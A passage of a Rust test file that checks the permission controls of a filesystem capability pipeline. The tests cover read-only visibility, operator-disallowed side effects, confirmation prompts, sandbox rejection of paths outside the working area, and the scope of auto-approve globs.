        ErrorKind::DeniedPolicy,
    );
    before.assert_same(&f.snapshot_all(), "read-only mode");
    // Reading still works.
    assert_eq!(
        f.ok("io.fs.read_file", json!({"path": "a.txt"}))["content"],
        "a"
    );
    f.ok("io.fs.list_dir", json!({}));
    f.ok("io.fs.exists", json!({"path": "a.txt"}));

    let visible: Vec<&str> = f.pipeline.capabilities().iter().map(|c| c.id).collect();
    assert!(!visible.is_empty());
    for c in f.pipeline.capabilities() {
        assert!(
            !c.is_mutating(),
            "{} changes state but is visible in read-only mode",
            c.id
        );
    }
    for id in MUTATING_FS {
        assert!(!visible.contains(&id), "{id} is visible in read-only mode");
    }
    for id in ["io.fs.read_file", "io.fs.list_dir", "io.fs.exists"] {
        assert!(
            visible.contains(&id),
            "{id} should stay visible: {visible:?}"
        );
    }
    let hidden = f.pipeline.all_capabilities().len() - visible.len();
    assert!(hidden >= MUTATING_FS.len());
}

#[test]
fn without_read_only_every_capability_is_visible() {
    let f = Fixture::new();
    assert_eq!(
        f.pipeline.capabilities().len(),
        f.pipeline.all_capabilities().len()
    );
}

#[test]
fn a_side_effect_the_operator_does_not_allow_is_refused() {
    let mut settings = Settings::default();
    settings
        .allowed_effects
        .remove(&SideEffect::FilesystemDelete);
    let f = Fixture::with(settings, None);
    f.write("a.txt", "a");
    f.err_kind(
        "io.fs.delete",
        json!({"path": "a.txt"}),
        ErrorKind::DeniedPolicy,
    );
    f.err_kind(
        "io.fs.move",
        json!({"source": "a.txt", "destination": "b.txt"}),
        ErrorKind::DeniedPolicy,
    );
    f.ok("io.fs.write_file", json!({"path": "c.txt", "content": "c"}));
    assert_eq!(f.names("."), ["a.txt", "c.txt"]);
}

/// Approves everything and counts how often it was asked.
#[derive(Default)]
struct Counting(AtomicUsize);

impl Confirmer for Counting {
    fn confirm(&self, _: &ConfirmRequest<'_>) -> Result<ApprovedBy, CapError> {
        self.0.fetch_add(1, Ordering::SeqCst);
        Ok(ApprovedBy::Flag)
    }
}

#[test]
fn nobody_to_confirm_means_declined_and_nothing_written() {
    let f = Fixture::new();
    f.write("keep.txt", "keep");
    let e = f
        .call_with(
            "io.fs.write_file",
            json!({"path": "new.txt", "content": "x"}),
            &NoConfirmer,
        )
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Declined, "{e:?}");
    assert!(e.hint.is_some());
    let e = f
        .call_with(
            "io.fs.write_file",
            json!({"path": "keep.txt", "content": "x"}),
            &NoConfirmer,
        )
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Declined);
    let e = f
        .call_with("io.fs.delete", json!({"path": "keep.txt"}), &NoConfirmer)
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Declined);
    assert_eq!(f.names("."), ["keep.txt"]);
    assert_eq!(f.read("keep.txt"), "keep");
    // Capabilities that do not need confirmation run without anyone to ask.
    f.call_with("io.fs.read_file", json!({"path": "keep.txt"}), &NoConfirmer)
        .unwrap();
    f.call_with("io.fs.make_dir", json!({"path": "d"}), &NoConfirmer)
        .unwrap();
    assert!(f.path("d").is_dir());
}

#[test]
fn the_sandbox_refuses_before_anyone_is_asked() {
    let f = Fixture::new();
    let c = Counting::default();
    let e = f
        .call_with(
            "io.fs.write_file",
            json!({"path": "../outside/x", "content": "x"}),
            &c,
        )
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::DeniedSandbox);
    assert_eq!(e.field.as_deref(), Some("path"));
    let e = f
        .call_with(
            "io.fs.write_file",
            json!({"path": "../outside/x", "content": "x"}),
            &NoConfirmer,
        )
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::DeniedSandbox);
    assert_eq!(
        c.0.load(Ordering::SeqCst),
        0,
        "the confirmer was asked about a refused path"
    );
    // And an allowed call asks exactly once.
    f.call_with(
        "io.fs.write_file",
        json!({"path": "ok.txt", "content": "x"}),
        &c,
    )
    .unwrap();
    assert_eq!(c.0.load(Ordering::SeqCst), 1);
}

#[test]
fn auto_approve_globs_approve_without_a_confirmer() {
    for glob in ["io.fs.*", "io.fs.write_file", "io_fs_write_file", "*"] {
        let f = Fixture::with(
            Settings {
                auto_approve: vec![glob.to_string()],
                ..Default::default()
            },
            None,
        );
        let c = Counting::default();
        f.call_with(
            "io.fs.write_file",
            json!({"path": "a.txt", "content": "auto"}),
            &c,
        )
        .unwrap_or_else(|e| panic!("{glob}: {e:?}"));
        f.call_with(
            "io.fs.write_file",
            json!({"path": "b.txt", "content": "auto"}),
            &NoConfirmer,
        )
        .unwrap_or_else(|e| panic!("{glob}: {e:?}"));
        assert_eq!(
            c.0.load(Ordering::SeqCst),
            0,
            "{glob}: the confirmer was asked"
        );
        assert_eq!(f.read("a.txt"), "auto");
        assert_eq!(f.read("b.txt"), "auto");
    }
    // A glob for another capability does not approve this one.
    let f = Fixture::with(
        Settings {
            auto_approve: vec!["io.fs.delete".into(), "io.fs".into(), "io.fs.write".into()],
            ..Default::default()
        },
        None,
    );
    let e = f
        .call_with(
            "io.fs.write_file",
            json!({"path": "a.txt", "content": "x"}),
            &NoConfirmer,
        )
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Declined);
    assert!(!f.present("a.txt"));
    // Auto-approval does not get past the sandbox.
    let f = Fixture::with(
        Settings {
            auto_approve: vec!["*".into()],
            ..Default::default()
        },
        None,
    );
    f.denied(
        "io.fs.write_file",
        json!({"path": "../outside/secret.txt", "content": "x"}),
    );
}
